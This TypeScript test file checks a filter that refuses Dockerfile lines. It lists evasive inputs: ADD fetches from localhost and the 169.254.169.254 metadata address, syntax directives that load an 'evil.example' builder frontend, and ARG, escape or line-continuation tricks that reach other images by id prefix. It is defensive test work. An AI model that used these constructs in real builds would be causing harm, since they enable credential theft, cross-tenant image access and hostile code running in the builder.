/** Lines of a Dockerfile that reach other accounts' images, the machine's network or the builder itself. */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Dockerfiles have variables of this form
import { expect, test } from "vitest";
import { refusedLine } from "../../../../adapters/local/container/build/refused-lines.ts";

test.each([
  // The beginning of an id is a name for the classic builder.
  ["FROM f0\n", 1],
  ["FROM sha256:f0\n", 1],
  ["FROM --platform=linux/amd64 f005 AS x\n", 1],
  ['FROM "f0"05\n', 1],
  ["FROM f\\005\n", 1],
  ["FROM \\\nf005\n", 1],
  ["FROM \\\n# a comment\n\nf005\n", 1],
  ["# escape=`\nFROM `\nf005\n", 2],
  ["ARG X=f005\nFROM $X\n", 2],
  ["ARG X=f005\nFROM ${X}\n", 2],
  ["ARG X=node\nARG X=f005\nFROM ${X}\n", 3],
  ["ARG A=ha256:f0\nFROM s$A\n", 2],
  ["FROM ${X:-f005}\n", 1],
  ["FROM a.b/c\nCOPY --from=f005 /a /b\n", 2],
  ['FROM a.b/c\nCOPY --chown=1:1 --from="f005" /a /b\n', 2],
  ["FROM a.b/c\nCOPY --fr\\\nom=f005 /a /b\n", 2],
  ["FROM a.b/c\nCOPY --from=83 /a /b\n", 2],
  [`FROM a.b/c\nCOPY ${" ".repeat(5000)} --from=f005 /a /b\n`, 2],
  ["FROM a.b/c\nONBUILD COPY --from=f005 /a /b\n", 2],
  ["FROM a.b/c\nRUN --mount=type=bind,from=f005,target=/x true\n", 2],
  // The engine downloads it.
  ["FROM a.b/c\nADD http://127.0.0.1:8080/x /x\n", 2],
  ["FROM a.b/c\nadd --chown=1:1 HTTPS://169.254.169.254/ /x\n", 2],
  ['FROM a.b/c\nADD ["\\u0068ttp://127.0.0.1/", "/x"]\n', 2],
  ["FROM a.b/c\nENV U=http://127.0.0.1\nADD $U /x\n", 3],
  ["FROM a.b/c\nENV U=ttp://127.0.0.1\nADD h$U /x\n", 3],
  ["FROM a.b/c\nADD ht\\tp://127.0.0.1/ /x\n", 2],
  ["FROM a.b/c\nADD \\\n  http://127.0.0.1/ /x\n", 2],
  ["FROM a.b/c\nADD git@github.com:a/b.git /x\n", 2],
  // It runs in the builder.
  ["# syntax=evil.example/frontend\nFROM a.b/c\n", 1],
  ["#!shebang\n#syntax = evil.example/frontend\nFROM a.b/c\n", 2],
  ["// syntax=evil.example/frontend\nFROM a.b/c\n", 1],
  ["# syntax=docker/dockerfile.evil.example/x\nFROM a.b/c\n", 1],
  ['{"syntax": "evil.example/frontend"}\n', 1],
])("%j is refused for line %i", (text, line) => expect(refusedLine(text)).toMatchObject({ line }));

test.each([
  "FROM node:24-bookworm-slim\nWORKDIR /app\nCOPY . .\n",
  "FROM scratch\n",
  "FROM node AS build\nFROM build\nCOPY --from=build /a /b\nCOPY --from=0 /a /b\n",
  "ARG BASE=node:24\nFROM $BASE\n",
  "ARG BASE=node:24 OTHER=x\nFROM ${BASE} AS one\n",
  "ARG V=24\nFROM node:${V}-slim\n",
  "FROM registry.example:5000/deed@sha256:00ff\n",
  "# syntax=docker/dockerfile:1\nFROM node\n",
  "# syntax=docker.io/docker/dockerfile:1.7@sha256:00ff\nFROM node\n",
  "FROM node\n# syntax=late\nADD https.tar.gz /x\nADD a b /c/\nADD app-$V.tar.gz /x\n",
  "FROM node\nRUN curl --from=f005 || echo FROM f005\nRUN echo \\\n  FROM --from\n",
  "FROM node\nENV A=$B\nCOPY $A /b\n",
])("%j is not refused", (text) => expect(refusedLine(text)).toBeUndefined());

test("lines of a megabyte are read in a moment", () => {
  for (const line of [`FROM ${"$a".repeat(100_000)}`, `COPY ${"--a ".repeat(50_000)}`, "ADD \\\n".repeat(20_000)]) {
    const begun = process.cpuUsage();
    refusedLine(`FROM node\n${line}\n`);
    expect(process.cpuUsage(begun).user / 1000).toBeLessThan(2000);
  }
});
